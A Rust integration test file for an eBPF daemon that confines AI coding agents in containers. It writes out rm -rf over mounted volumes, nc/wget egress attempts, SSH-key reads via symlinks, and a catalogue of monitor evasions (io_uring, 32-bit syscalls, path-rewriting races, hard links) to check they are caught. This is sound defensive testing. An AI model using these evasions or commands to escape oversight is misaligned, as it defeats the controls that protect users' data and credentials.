//! `agentguard run` with the default policy pack against real containers:
//! kills in the kernel, network denies in the cgroup hooks, audit mode, and
//! denies that outlive a `kill -9` of the daemon.
//!
//! The daemon pins its enforcement state in one bpffs directory, so these
//! tests take turns (a lock) rather than run side by side.

mod common;

use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};
use std::sync::Mutex;
use std::time::{Duration, Instant};

static ONE_DAEMON: Mutex<()> = Mutex::new(());

use common::daemon::{cleanup, pack, Daemon, BIN};

fn ready() -> Option<std::sync::MutexGuard<'static, ()>> {
    if !common::docker_ready() {
        return None;
    }
    let guard = ONE_DAEMON.lock().unwrap_or_else(|p| p.into_inner());
    cleanup();
    Some(guard)
}

fn volume(tag: &str, files: usize) -> PathBuf {
    let dir = std::env::temp_dir().join(format!("agentguard-vol-{tag}-{}", std::process::id()));
    let _ = std::fs::remove_dir_all(&dir);
    std::fs::create_dir_all(&dir).expect("mkdir");
    for i in 0..files {
        std::fs::write(dir.join(format!("f{i:03}")), b"data").expect("write");
    }
    dir
}

fn count(dir: &Path) -> usize {
    std::fs::read_dir(dir).map(|d| d.count()).unwrap_or(0)
}

/// `docker run` in the foreground; returns its combined output.
fn docker_run(args: &[&str]) -> String {
    let out = Command::new("docker")
        .arg("run")
        .args(args)
        .output()
        .expect("docker run");
    format!(
        "{}{}",
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    )
}

/// An agent container (label `agent`) that runs `rm -rf` over `vol`
/// mounted at /data. Returns the container's guard (its name is `.0`;
/// the container stays for the daemon to inspect until the guard drops)
/// and its output, which ends `rm-exit=N` if rm returned.
fn agent_rm_volume(tag: &str, agent: &str, vol: &Path) -> (common::ContainerGuard, String) {
    let name = format!("agtest-{tag}-{}", std::process::id());
    let guard = common::ContainerGuard(name.clone());
    let out = docker_run(&[
        "--name",
        &name,
        "--label",
        &format!("agentguard.io/agent={agent}"),
        "-v",
        &format!("{}:/data", vol.display()),
        common::TEST_IMAGE,
        "sh",
        "-c",
        "sleep 1; rm -rf /data/*; echo rm-exit=$?",
    ]);
    (guard, out)
}

#[test]
fn rm_of_a_mounted_volume_by_an_agent_is_killed_in_the_kernel() {
    let Some(_g) = ready() else { return };
    let d = Daemon::start(&pack(), "rm");
    let vol = volume("rm", 50);
    let (c, out) = agent_rm_volume("rm", "claude", &vol);
    let left = count(&vol);
    assert!(
        left >= 49,
        "{} files lost (at most one may be): {out}",
        50 - left
    );
    assert!(out.contains("rm-exit=137"), "rm was not SIGKILLed: {out}");
    let a = d.wait_alert("volume-removal", |_| true);
    assert_eq!(a["result"]["outcome"], "killed", "{a}");
    assert_eq!(a["result"]["by"], "kernel", "{a}");
    assert_eq!(a["event"]["identity"]["agent"]["name"], "claude", "{a}");
    assert_eq!(
        a["event"]["identity"]["container"]["info"]["name"],
        c.0.as_str()
    );
    assert!(a["event"]["kernel_action"]["killed"] == true, "{a}");
    // The container is gone (its cgroup with it): what the kernel maps held
    // for it is forgotten, so they do not fill with every container run.
    let deadline = Instant::now() + Duration::from_secs(20);
    loop {
        let n = d.counters()["cgroups_enforced"].as_u64();
        if n == Some(0) {
            break;
        }
        assert!(
            Instant::now() < deadline,
            "kernel state of a gone container kept: cgroups_enforced={n:?}"
        );
        std::thread::sleep(Duration::from_millis(500));
    }
    d.stop();
    cleanup();
    let _ = std::fs::remove_dir_all(&vol);
}

#[test]
fn agent_egress_is_denied_and_unlabelled_containers_are_left_alone() {
    let Some(_g) = ready() else { return };
    let d = Daemon::start(&pack(), "net");
    let gw = common::bridge_gateway();
    let agent = format!("agtest-net-{}", std::process::id());
    let _c = common::ContainerGuard(agent.clone());
    let script = format!(
        "sleep 1; nc -w 1 {gw} 9 </dev/null; wget -q -T 2 -O /dev/null http://{gw}:9/ ; nc -w 1 127.0.0.1 9 </dev/null; true"
    );
    let out = docker_run(&[
        "--name",
        &agent,
        "--label",
        "agentguard.io/agent=codex",
        common::TEST_IMAGE,
        "sh",
        "-c",
        &script,
    ]);
    assert!(
        out.matches("Operation not permitted").count() >= 1,
        "agent egress not refused with EPERM: {out}"
    );
    // Loopback is an exception of the rule: refused by nobody listening.
    assert!(out.contains("127.0.0.1): Connection refused"), "{out}");
    let a = d.wait_alert("agent-egress", |a| a["result"]["outcome"] == "denied");
    assert_eq!(a["result"]["by"], "kernel");
    assert_eq!(a["event"]["error"], "EPERM");
    assert_eq!(a["result"]["syscall_completed"], false);

    // No agent label: same connect goes out, and cleaning its own volume
    // is not a removal of anyone's data.
    let plain = format!("agtest-plain-{}", std::process::id());
    let _p = common::ContainerGuard(plain.clone());
    let vol = volume("plain", 20);
    let out = docker_run(&[
        "--name",
        &plain,
        "-v",
        &format!("{}:/data", vol.display()),
        common::TEST_IMAGE,
        "sh",
        "-c",
        &format!("sleep 1; nc -w 1 {gw} 9 </dev/null; rm -rf /data/*; echo rm-exit=$?"),
    ]);
    assert!(!out.contains("Operation not permitted"), "{out}");
    assert!(out.contains("rm-exit=0"), "{out}");
    assert_eq!(count(&vol), 0);
    let hit = d
        .alerts()
        .into_iter()
        .any(|a| a["event"]["identity"]["container"]["info"]["name"] == plain.as_str());
    assert!(
        !hit,
        "alerts about the unlabelled container: {:?}",
        d.alerts()
    );
    d.stop();
    cleanup();
    let _ = std::fs::remove_dir_all(&vol);
}

#[test]
fn audit_mode_only_reports_what_it_would_do() {
    let Some(_g) = ready() else { return };
    let dir = std::env::temp_dir().join(format!("agentguard-audit-pack-{}", std::process::id()));
    let _ = std::fs::remove_dir_all(&dir);
    std::fs::create_dir_all(&dir).expect("mkdir");
    let files = std::fs::read_to_string(pack().join("files.yaml")).expect("files.yaml");
    assert!(files.contains("mode: enforce"));
    std::fs::write(
        dir.join("files.yaml"),
        files.replace("mode: enforce", "mode: audit"),
    )
    .expect("write");
    let d = Daemon::start(&dir, "audit");
    let vol = volume("audit", 30);
    let (_c, out) = agent_rm_volume("audit", "aider", &vol);
    assert!(out.contains("rm-exit=0"), "{out}");
    assert_eq!(count(&vol), 0, "audit mode must not stop anything");
    let a = d.wait_alert("volume-removal", |_| true);
    assert_eq!(a["result"]["outcome"], "would_kill", "{a}");
    assert_eq!(a["decision"]["mode"], "audit");
    d.stop();
    cleanup();
    let _ = std::fs::remove_dir_all(&vol);
    let _ = std::fs::remove_dir_all(&dir);
}

/// Our cgroup sock_addr programs: connect4/6, sendmsg4/6, bind4/6.
const SOCK_PROGRAMS: usize = 6;

/// Names of loaded cgroup sock_addr programs of ours.
fn our_sock_programs() -> usize {
    aya::programs::loaded_programs()
        .filter_map(Result::ok)
        .filter(|p| {
            p.name_as_str().is_some_and(|n| n.starts_with("agentguard_"))
                // BPF_PROG_TYPE_CGROUP_SOCK_ADDR (uapi).
                && p.program_type() as u32 == 18
        })
        .count()
}

fn exec_nc(container: &str, gw: &str) -> String {
    let out = Command::new("docker")
        .args(["exec", container, "nc", "-w", "1", gw, "9"])
        .stdin(Stdio::null())
        .output()
        .expect("docker exec");
    String::from_utf8_lossy(&out.stderr).into_owned()
}

#[test]
fn network_deny_outlives_kill_9_and_a_restart_adopts_it() {
    let Some(_g) = ready() else { return };
    let gw = common::bridge_gateway();
    let d = Daemon::start(&pack(), "persist");
    let name = format!("agtest-persist-{}", std::process::id());
    let _c = common::ContainerGuard(name.clone());
    common::docker(&[
        "run",
        "-d",
        "--name",
        &name,
        "--label",
        "agentguard.io/agent=codex",
        common::TEST_IMAGE,
        "sleep",
        "120",
    ]);
    // Denied while the daemon runs (its first event covers the container).
    let deadline = Instant::now() + Duration::from_secs(20);
    loop {
        let e = exec_nc(&name, &gw);
        if e.contains("Operation not permitted") {
            break;
        }
        assert!(Instant::now() < deadline, "never denied: {e}\n{}", d.log());
        std::thread::sleep(Duration::from_millis(200));
    }
    assert_eq!(our_sock_programs(), SOCK_PROGRAMS);
    d.kill9();
    let e = exec_nc(&name, &gw);
    assert!(
        e.contains("Operation not permitted"),
        "deny lapsed after kill -9: {e}"
    );
    // A new daemon adopts the pinned links: no second set of programs.
    let d = Daemon::start(&pack(), "persist2");
    assert!(d.log().contains("adopted"), "{}", d.log());
    assert_eq!(
        our_sock_programs(),
        SOCK_PROGRAMS,
        "programs attached twice"
    );
    let e = exec_nc(&name, &gw);
    assert!(e.contains("Operation not permitted"), "{e}");
    d.stop();
    // --cleanup is the documented way to lift every deny.
    cleanup();
    // The kernel frees unpinned links and their programs asynchronously
    // (deferred work): allow it a bounded moment.
    let deadline = Instant::now() + Duration::from_secs(10);
    while our_sock_programs() != 0 {
        assert!(
            Instant::now() < deadline,
            "programs still loaded after --cleanup"
        );
        std::thread::sleep(Duration::from_millis(100));
    }
    let e = exec_nc(&name, &gw);
    assert!(
        !e.contains("Operation not permitted"),
        "deny survived --cleanup: {e}"
    );
}

/// Raw and packet sockets send around every address rule (Docker grants
/// NET_RAW): the pack's `raw-socket` rule refuses them to agents at
/// creation (cgroup sock_create here, no BPF-LSM needed); an unlabelled
/// container keeps them.
#[test]
fn raw_and_packet_sockets_are_refused_to_agents() {
    let Some(_g) = ready() else { return };
    let d = Daemon::start(&pack(), "raw");
    let evade = common::evade::evade_bin();
    let mount = format!("{}:/bin/evade:ro", evade.display());
    let script = "sleep 1; for k in raw-socket raw6-socket packet-socket; do r=$(evade $k); [ $? -gt 128 ] && r=killed; echo \"$k $r\"; done";
    let agent = format!("agtest-raw-{}", std::process::id());
    let _c = common::ContainerGuard(agent.clone());
    let out = docker_run(&[
        "--name",
        &agent,
        "--label",
        "agentguard.io/agent=claude",
        "-v",
        &mount,
        common::TEST_IMAGE,
        "sh",
        "-c",
        script,
    ]);
    for k in ["raw-socket", "raw6-socket"] {
        assert!(out.contains(&format!("{k} err EPERM")), "{k}: {out}");
    }
    // Packet sockets skip the cgroup hook: killed at socket() entry.
    assert!(out.contains("packet-socket killed"), "packet-socket: {out}");
    let k = d.wait_alert("raw-socket", |a| a["result"]["outcome"] == "killed");
    assert_eq!(k["result"]["mechanism"], "tracepoint", "{k}");
    assert_eq!(k["event"]["net"]["family"], "packet", "{k}");
    let a = d.wait_alert("raw-socket", |a| a["result"]["outcome"] == "denied");
    assert_eq!(a["result"]["by"], "kernel", "{a}");
    assert_eq!(a["result"]["mechanism"], "sock_create", "{a}");
    assert_eq!(a["event"]["kind"], "socket", "{a}");

    let plain = format!("agtest-rawplain-{}", std::process::id());
    let _p = common::ContainerGuard(plain.clone());
    let out = docker_run(&[
        "--name",
        &plain,
        "-v",
        &mount,
        common::TEST_IMAGE,
        "sh",
        "-c",
        script,
    ]);
    for k in ["raw-socket", "raw6-socket", "packet-socket"] {
        assert!(out.contains(&format!("{k} ok")), "control {k}: {out}");
    }
    d.stop();
    cleanup();
}

// ---------------------------------------------------------------------
// Evasions of the tracepoint backend (this host has no BPF-LSM): each class
// an agent told to get around the pack would try, what is detected, what
// is blocked, and how much is lost. The unlabelled control runs the same.

/// Runs `body` as a shell script named `claude` in `dir`: an agent found
/// by ancestry on the host, guarded by process id. Returns its stdout.
/// Writes `dir/claude`, a `#!/bin/sh` script running `body` (an agent by
/// its name), executable.
fn write_host_agent(dir: &Path, body: &str) -> PathBuf {
    let claude = dir.join("claude");
    std::fs::write(&claude, format!("#!/bin/sh\n{body}\n")).expect("write agent");
    let mut perm = std::fs::metadata(&claude).expect("meta").permissions();
    std::os::unix::fs::PermissionsExt::set_mode(&mut perm, 0o755);
    std::fs::set_permissions(&claude, perm).expect("chmod");
    claude
}

fn run_host_agent(dir: &Path, body: &str) -> String {
    let claude = write_host_agent(dir, body);
    let out = Command::new(&claude).output().expect("run agent");
    String::from_utf8_lossy(&out.stdout).into_owned()
}

/// Runs `script` in an agent container (label claude) and in an unlabelled
/// one, each with the evade helper and `vol` at /data; returns both outputs.
fn agent_and_control(
    tag: &str,
    vol_files: usize,
    script: &str,
) -> (String, PathBuf, String, PathBuf) {
    let evade = common::evade::evade_bin();
    let mount = format!("{}:/bin/evade:ro", evade.display());
    let mut outs = Vec::new();
    for (label, who) in [
        (Some("agentguard.io/agent=claude"), "agent"),
        (None, "plain"),
    ] {
        let vol = volume(&format!("{tag}-{who}"), vol_files);
        let name = format!("agtest-{tag}-{who}-{}", std::process::id());
        let guard = common::ContainerGuard(name.clone());
        let data = format!("{}:/data", vol.display());
        let mut args = vec![
            "--name",
            name.as_str(),
            "-v",
            mount.as_str(),
            "-v",
            data.as_str(),
        ];
        if let Some(l) = label {
            args.extend(["--label", l]);
        }
        args.extend([common::TEST_IMAGE, "sh", "-c", script]);
        let out = docker_run(&args);
        drop(guard);
        outs.push((out, vol));
    }
    let (plain, pvol) = outs.pop().expect("control");
    let (agent, avol) = outs.pop().expect("agent");
    (agent, avol, plain, pvol)
}

/// `r=$(evade ...)` with a death by signal shown as `killed`.
const GOT: &str = "got() { r=$(\"$@\" 2>/dev/null); s=$?; [ $s -gt 128 ] && echo killed || echo \"$r\"; }; sleep 1; ";

#[test]
fn io_uring_is_refused_to_agents_on_the_tracepoint_backend() {
    let Some(_g) = ready() else { return };
    let d = Daemon::start(&pack(), "uring");
    let script = format!(
        "{GOT} echo \"unlink $(got evade uring-unlink /data/f000)\"; echo \"open $(got evade uring-open /etc/hostname)\"; echo \"connect $(got evade uring-connect 127.0.0.1 9)\""
    );
    let (agent, avol, plain, pvol) = agent_and_control("uring", 3, &script);
    for k in ["unlink", "open", "connect"] {
        assert!(agent.contains(&format!("{k} killed")), "{k}: {agent}");
    }
    assert_eq!(count(&avol), 3, "io_uring unlink lost a file: {agent}");
    let a = d.wait_alert("io-uring", |a| a["result"]["outcome"] == "killed");
    assert_eq!(a["result"]["by"], "kernel", "{a}");
    assert_eq!(a["result"]["mechanism"], "tracepoint", "{a}");
    // The control does all three.
    assert!(plain.contains("unlink ok"), "{plain}");
    assert!(plain.contains("open ok"), "{plain}");
    assert!(plain.contains("connect err ECONNREFUSED"), "{plain}");
    assert_eq!(count(&pvol), 2);
    d.stop();
    cleanup();
    let _ = std::fs::remove_dir_all(&avol);
    let _ = std::fs::remove_dir_all(&pvol);
}

#[test]
fn the_32_bit_syscall_abi_is_detected_and_killed() {
    let Some(_g) = ready() else { return };
    let d = Daemon::start(&pack(), "compat");
    let script = format!(
        "{GOT} echo \"open $(got evade compat-open /etc/hostname)\"; echo \"exec $(got evade compat-exec /bin/true)\"; echo \"unlink $(got evade compat-unlink /data/f000)\"; echo \"x32 $(got evade x32-open /etc/hostname)\"; echo \"nosys $(got evade nosys)\""
    );
    let (agent, avol, plain, pvol) = agent_and_control("compat", 3, &script);
    // x32 (raw syscall dispatch only: per-syscall tracepoints never see
    // it; this kernel has no x32 ABI, so the control gets ENOSYS).
    for k in ["open", "exec", "unlink", "x32"] {
        assert!(agent.contains(&format!("{k} killed")), "{k}: {agent}");
    }
    // syscall(-1) (a tracer's skipped call looks the same) is no ABI trick.
    assert!(agent.contains("nosys err ENOSYS"), "{agent}");
    // The same on the host, where no seccomp profile stops syscall(-1)
    // before the probes see it (Docker's does).
    let dir = std::env::temp_dir().join(format!("agtest-compat-host-{}", std::process::id()));
    let _ = std::fs::remove_dir_all(&dir);
    std::fs::create_dir_all(&dir).expect("mkdir");
    let ev = common::evade::evade_bin();
    let ev = ev.display();
    let host = run_host_agent(
        &dir,
        &format!(
            "sleep 1\n{ev} nosys; echo \"nosys-rc=$?\"\n{ev} x32-open /etc/hostname; echo \"x32-rc=$?\"\n"
        ),
    );
    assert!(
        host.contains("err ENOSYS") && host.contains("nosys-rc=1"),
        "{host}"
    );
    assert!(host.contains("x32-rc=137"), "{host}");
    let _ = std::fs::remove_dir_all(&dir);
    // A kill at syscall entry does not stop the syscall in flight: at most
    // the one file of that call.
    assert!(count(&avol) >= 2, "compat unlink lost more than one file");
    let a = d.wait_alert("compat-syscall", |a| a["result"]["outcome"] == "killed");
    assert_eq!(a["result"]["mechanism"], "tracepoint", "{a}");
    assert_eq!(a["event"]["kind"], "compat_syscall", "{a}");
    assert!(plain.contains("open ok"), "{plain}");
    assert!(plain.contains("unlink ok"), "{plain}");
    assert!(
        plain.contains("x32 ok") || plain.contains("x32 err ENOSYS"),
        "{plain}"
    );
    assert_eq!(count(&pvol), 2);
    d.stop();
    cleanup();
    let _ = std::fs::remove_dir_all(&avol);
    let _ = std::fs::remove_dir_all(&pvol);
}

/// One `rm` process per file: the first is killed at its unlink (which
/// completes without BPF-LSM), and the loop that started it is quarantined:
/// it dies at its next fork, so at most one file is lost.
#[test]
fn a_loop_of_rm_processes_loses_at_most_one_file() {
    let Some(_g) = ready() else { return };
    let d = Daemon::start(&pack(), "loop");
    let script = "sleep 1; for f in /data/*; do rm \"$f\"; done; echo loop-survived";
    let (agent, avol, plain, pvol) = agent_and_control("loop", 30, script);
    let left = count(&avol);
    assert!(left >= 29, "the rm loop lost {} files: {agent}", 30 - left);
    assert!(!agent.contains("loop-survived"), "{agent}");
    d.wait_alert("volume-removal", |a| a["result"]["outcome"] == "killed");
    assert!(plain.contains("loop-survived"), "{plain}");
    assert_eq!(count(&pvol), 0);
    d.stop();
    cleanup();
    let _ = std::fs::remove_dir_all(&avol);
    let _ = std::fs::remove_dir_all(&pvol);
}

/// Reading a credential through a symlinked directory or `/proc/self/root`:
/// the open is reported with the file the kernel opened (walked from the
/// returned descriptor), so the credential rule sees through the string.
#[test]
fn credential_reads_through_symlinks_are_seen_as_the_real_file() {
    let Some(_g) = ready() else { return };
    let d = Daemon::start(&pack(), "cred");
    let script = "mkdir -p /root/.ssh; echo key > /root/.ssh/id_rsa; sleep 1; \
        ln -s /root/.ssh /tmp/k; cat /tmp/k/id_rsa; cat /proc/self/root/root/.ssh/id_rsa; echo done";
    let (agent, avol, _plain, pvol) = agent_and_control("cred", 0, script);
    assert!(agent.contains("done"), "{agent}");
    for raw in ["/tmp/k/id_rsa", "/proc/self/root/root/.ssh/id_rsa"] {
        let a = d.wait_alert("credential-read", |a| a["event"]["file"]["raw"] == raw);
        assert_eq!(a["event"]["file"]["path"], "/root/.ssh/id_rsa", "{a}");
        assert_eq!(a["event"]["file"]["resolution"], "file", "{a}");
    }
    d.stop();
    cleanup();
    let _ = std::fs::remove_dir_all(&avol);
    let _ = std::fs::remove_dir_all(&pvol);
}

/// An exec from a thread that is not the group leader takes over the
/// leader's id: its exec is still reported (and matched by exec rules).
#[test]
fn exec_from_a_non_leader_thread_is_reported() {
    let Some(_g) = ready() else { return };
    let d = Daemon::start(&pack(), "texec");
    let script = "sleep 1; cp /bin/busybox /tmp/tt; evade thread-exec /tmp/tt true; echo done";
    let (agent, avol, _plain, pvol) = agent_and_control("texec", 0, script);
    assert!(agent.contains("done"), "{agent}");
    let a = d.wait_alert("exec-from-temp", |a| {
        a["event"]["exec"]["file"]["path"] == "/tmp/tt"
    });
    assert_eq!(a["event"]["exec"]["argv"][0], "/tmp/tt", "{a}");
    d.stop();
    cleanup();
    let _ = std::fs::remove_dir_all(&avol);
    let _ = std::fs::remove_dir_all(&pvol);
}

/// Removals through a symlinked directory or `/proc/self/root`: the
/// tracepoint backend decides on the string at entry, so the first unlink
/// goes through; the daemon resolves the directory through the process's
/// root, alerts under the volume rule with the real path, kills, and
/// quarantines the loop. Detected, and contained to a few files.
#[test]
fn removals_through_symlinked_directories_are_detected_and_contained() {
    let Some(_g) = ready() else { return };
    let d = Daemon::start(&pack(), "symrm");
    // The loop starts once the daemon has had time to learn the container
    // (its first events wait for the runtime's answer): what is measured
    // is the reaction to the removals, not the container's start.
    let script = "sleep 3; ln -s /data /tmp/volink; \
        for f in /data/*; do rm /tmp/volink/$(basename $f); done; \
        rm /proc/self/root/data/f029; echo loop-survived";
    let (agent, avol, plain, pvol) = agent_and_control("symrm", 30, script);
    let a = d.wait_alert("volume-removal", |a| {
        a["event"]["file"]["raw"]
            .as_str()
            .is_some_and(|r| r.starts_with("/tmp/volink/"))
    });
    assert!(
        a["event"]["file"]["path"]
            .as_str()
            .is_some_and(|p| p.starts_with("/data/f")),
        "{a}"
    );
    assert_eq!(a["event"]["file"]["resolution"], "resolved", "{a}");
    let left = count(&avol);
    eprintln!(
        "symlinked-directory removals: {} of 30 files lost",
        30 - left
    );
    // How many go first is the daemon's reaction time while the loop
    // forks on the other core (1 to 16 in runs on a 2-core host): the
    // loop must be stopped well short of emptying the volume.
    assert!(left >= 10, "lost {} of 30 files: {agent}", 30 - left);
    assert!(!agent.contains("loop-survived"), "{agent}");
    assert!(plain.contains("loop-survived"), "{plain}");
    assert_eq!(count(&pvol), 0, "{plain}");
    d.stop();
    cleanup();
    let _ = std::fs::remove_dir_all(&avol);
    let _ = std::fs::remove_dir_all(&pvol);
}

/// A fresh `agtest-<tag>-<pid>` directory holding `secret/key`, the
/// directories `subs`, and `pol/<tag>.yaml`: one critical open rule,
/// `secret-read`, on `secret/**` for any agent, with `action`.
fn secret_dir(tag: &str, subs: &[&str], action: &str) -> PathBuf {
    let dir = std::env::temp_dir().join(format!("agtest-{tag}-{}", std::process::id()));
    let _ = std::fs::remove_dir_all(&dir);
    for sub in ["secret", "pol"].iter().chain(subs) {
        std::fs::create_dir_all(dir.join(sub)).expect("mkdir");
    }
    std::fs::write(dir.join("secret/key"), b"TOPSECRET\n").expect("write");
    std::fs::write(
        dir.join("pol").join(format!("{tag}.yaml")),
        format!(
            "name: {tag}\nrules:\n  - name: secret-read\n    kinds: [open]\n    match: {{ agent: any }}\n    when: {{ path: [\"{}/secret/**\"] }}\n    action: {action}\n    severity: critical\n    message: \"{{comm}} read {{path}}\"\n",
            dir.display()
        ),
    )
    .expect("write policy");
    dir
}

/// Without BPF-LSM, a protected file opened by any name (a hard link made
/// beforehand) is recognised by identity at the open's exit: a `deny` rule
/// kills the agent before it returns to userspace, so it reads nothing.
#[test]
fn a_hard_link_to_a_protected_file_is_the_same_file() {
    let Some(_g) = ready() else { return };
    let dir = secret_dir("hl", &[], "deny");
    std::fs::hard_link(dir.join("secret/key"), dir.join("hl")).expect("link");
    for f in ["files.yaml", "network.yaml", "exec.yaml"] {
        std::fs::copy(pack().join(f), dir.join("pol").join(f)).expect("copy pack");
    }
    let d = Daemon::start(&dir.join("pol"), "hl");
    let text = run_host_agent(
        &dir,
        &format!(
            "sleep 1\ncat {}/hl; echo \"cat-status=$?\"\n",
            dir.display()
        ),
    );
    assert!(
        !text.contains("TOPSECRET"),
        "the agent read the secret: {text}"
    );
    assert!(text.contains("cat-status=137"), "{text}");
    let a = d.wait_alert("secret-read", |a| a["result"]["outcome"] == "killed");
    assert_eq!(a["result"]["mechanism"], "tracepoint", "{a}");
    // The control: the same read by a non-agent.
    let plain = std::fs::read_to_string(dir.join("hl")).expect("read");
    assert_eq!(plain, "TOPSECRET\n");
    d.stop();
    cleanup();
    let _ = std::fs::remove_dir_all(&dir);
}

/// A thread racing to rewrite the path string while another opens it (the
/// string the probe reads and the one the kernel used may differ): the
/// open is judged by the file the kernel opened, at the open's exit (under
/// raw dispatch no entry program runs for opens at all), so the agent is
/// killed at its first open of the secret, before it returns. The control,
/// a non-agent running the same race, gets the secret: the race is real.
#[test]
fn an_open_path_rewritten_by_a_racing_thread_is_judged_by_the_file() {
    let Some(_g) = ready() else { return };
    let dir = secret_dir("race", &["decoy"], "kill");
    std::fs::write(dir.join("decoy/key"), b"nothing\n").expect("write");
    let evade = common::evade::evade_bin();
    // Same length, as the race needs: "secret/key" and "decoy//key".
    let race = format!(
        "{} race-open {d}/secret/key {d}/decoy//key 2",
        evade.display(),
        d = dir.display()
    );
    let d = Daemon::start(&dir.join("pol"), "race");
    let text = run_host_agent(&dir, &format!("sleep 1\n{race}; echo \"race-status=$?\"\n"));
    assert!(
        text.contains("race-status=137"),
        "the agent was not killed: {text}"
    );
    let a = d.wait_alert("secret-read", |a| a["result"]["outcome"] == "killed");
    assert_eq!(a["result"]["mechanism"], "tracepoint", "{a}");
    assert_eq!(
        a["event"]["file"]["path"],
        format!("{}/secret/key", dir.display()),
        "{a}"
    );
    // The control: the same race by a non-agent reads the secret (by
    // inode, as `evade` checks what it got).
    let out = Command::new("sh")
        .arg("-c")
        .arg(&race)
        .output()
        .expect("run the control race");
    let plain = String::from_utf8_lossy(&out.stdout);
    let secret: u64 = plain
        .split_whitespace()
        .find_map(|w| w.strip_prefix("secret="))
        .and_then(|n| n.parse().ok())
        .unwrap_or(0);
    assert!(
        plain.starts_with("ok ") && secret > 0,
        "control race: {plain}"
    );
    d.stop();
    cleanup();
    let _ = std::fs::remove_dir_all(&dir);
}

/// Every open-like syscall, not only `openat`: the legacy `open`, `creat`
/// and `openat2` are judged by the file each got, here reached through a
/// symlink, and the host agent making them is killed, under raw dispatch
/// (their exits alone judge the call) and on per-syscall tracepoints (the
/// entry parks the arguments); a non-agent making the same calls gets the
/// secret.
#[test]
fn every_open_like_syscall_is_judged_by_the_file_it_got() {
    let Some(_g) = ready() else { return };
    let dir = secret_dir("opens", &["proj"], "kill");
    std::os::unix::fs::symlink(dir.join("secret/key"), dir.join("proj/innocent")).expect("symlink");
    std::os::unix::fs::symlink(dir.join("secret"), dir.join("proj/sdir")).expect("symlink");
    let p = dir.display();
    let calls = [
        ("open", "legacy-open", format!("{p}/proj/innocent"), "key"),
        ("openat2", "openat2", format!("{p}/proj/innocent"), "key"),
        ("creat", "creat", format!("{p}/proj/sdir/made"), "made"),
    ];
    for (tag, env) in [
        ("opens-raw", None),
        (
            "opens-tp",
            Some(("AGENTGUARD_SYSCALL_HOOKS", "tracepoints")),
        ),
    ] {
        // A new file each time: one no inode entry names yet.
        let _ = std::fs::remove_file(dir.join("secret/made"));
        let d = Daemon::start_env(&dir.join("pol"), tag, None, &[], env.as_slice());
        judged_opens(&d, &dir, &calls);
        d.stop();
        cleanup();
    }
    // The control: the same calls by a non-agent succeed.
    std::fs::remove_file(dir.join("secret/made")).expect("rm made");
    for (syscall, cmd, path, _) in &calls {
        let out = common::evade::evade_output(&[cmd, path]);
        let text = String::from_utf8_lossy(&out.stdout);
        assert!(text.starts_with("ok"), "control {syscall}: {text}");
    }
    let _ = std::fs::remove_dir_all(&dir);
}

/// Runs each (syscall, evade command, path, real name in `dir`/secret) as
/// a host agent and checks the kill and its alert.
fn judged_opens(d: &Daemon, dir: &Path, calls: &[(&str, &str, String, &str)]) {
    let evade = common::evade::evade_bin();
    let p = dir.display();
    for (syscall, cmd, path, real) in calls {
        let text = run_host_agent(
            dir,
            &format!(
                "sleep 1\n{} {cmd} {path}; echo \"status=$?\"\n",
                evade.display()
            ),
        );
        assert!(
            text.contains("status=137"),
            "{syscall}: the agent was not killed: {text}"
        );
        let want = format!("{p}/secret/{real}");
        let a = d.wait_alert("secret-read", |a| {
            a["event"]["syscall"] == *syscall && a["result"]["outcome"] == "killed"
        });
        // In the kernel, before the call returned: `creat` made a file no
        // inode entry names yet, judged by its protected directory.
        assert_eq!(a["result"]["mechanism"], "tracepoint", "{a}");
        assert_eq!(a["event"]["file"]["path"], want.as_str(), "{a}");
        assert_eq!(a["event"]["file"]["raw"], path.as_str(), "{a}");
    }
}

/// A full kernel map is never silent. With the maps made tiny by
/// configuration: an agent's fork that its task-filter map can't hold
/// raises `kernel-map-full` naming the map; opens blocked at once (readers
/// of a FIFO, streamed in full, on per-syscall tracepoints) beyond the
/// pending-record map's size are counted as evicted records, in `status`
/// and the log.
#[test]
fn full_kernel_maps_are_counted_and_alerted() {
    let Some(_g) = ready() else { return };
    let d = Daemon::start_with(
        &pack(),
        "mapfull",
        Some("watch: agents\nkernel_maps: { task_filter: 8 }\n"),
    );
    let script = "sleep 1; for i in $(seq 24); do sleep 2 & done; wait; echo done";
    let (agent, avol, _plain, pvol) = agent_and_control("mapfull", 0, script);
    assert!(agent.contains("done"), "{agent}");
    let a = d.wait_alert("kernel-map-full", |a| {
        a["decision"]["message"]
            .as_str()
            .is_some_and(|m| m.contains("task_filter"))
    });
    assert_eq!(a["event"]["kind"], "fork", "{a}");
    wait_counter(&d, "map_full_task_filter");
    d.stop();
    cleanup();

    // Opens a rule could match by a name glob the kernel's prefilter can't
    // hold (`*.pem`): on per-syscall tracepoints every agent open parks a
    // full record at entry (under raw dispatch an open parks nothing: its
    // exit builds the whole record).
    let pol = std::env::temp_dir().join(format!("agentguard-enf-pendpol-{}", std::process::id()));
    let _ = std::fs::remove_dir_all(&pol);
    std::fs::create_dir_all(&pol).expect("mkdir");
    std::fs::write(
        pol.join("pem.yaml"),
        "name: pem\nrules:\n  - name: pem-read\n    kinds: [open]\n    match: { agent: any }\n    \
         when: { path: [\"*.pem\"] }\n    action: alert\n    severity: low\n    message: \"{comm} opened {path}\"\n",
    )
    .expect("write policy");
    let d = Daemon::start_env(
        &pol,
        "pending",
        Some("kernel_maps: { pending_file: 4 }\n"),
        &[],
        &[("AGENTGUARD_SYSCALL_HOOKS", "tracepoints")],
    );
    let script = "sleep 1; mkfifo /tmp/p; for i in $(seq 12); do cat /tmp/p >/dev/null & done; \
        sleep 1; echo x > /tmp/p; wait; echo done";
    let (agent, avol2, _plain, pvol2) = agent_and_control("pending", 0, script);
    assert!(agent.contains("done"), "{agent}");
    let n = wait_counter(&d, "map_full_pending_file");
    eprintln!("pending_file evictions counted: {n}");
    assert!(
        d.log().contains("kernel map pending_file: ")
            && d.log().contains("evicted before their syscall returned"),
        "{}",
        d.log()
    );
    d.stop();
    cleanup();
    for v in [avol, pvol, avol2, pvol2, pol] {
        let _ = std::fs::remove_dir_all(&v);
    }
}

/// Waits (bounded) for status counter `name` to be non-zero.
fn wait_counter(d: &Daemon, name: &str) -> u64 {
    wait_counter_at_least(d, name, 1)
}

/// Waits (bounded) for status counter `name` to reach `min`; returns it.
fn wait_counter_at_least(d: &Daemon, name: &str, min: u64) -> u64 {
    // The housekeeping tick (1 s) reads the kernel counters.
    let deadline = Instant::now() + Duration::from_secs(10);
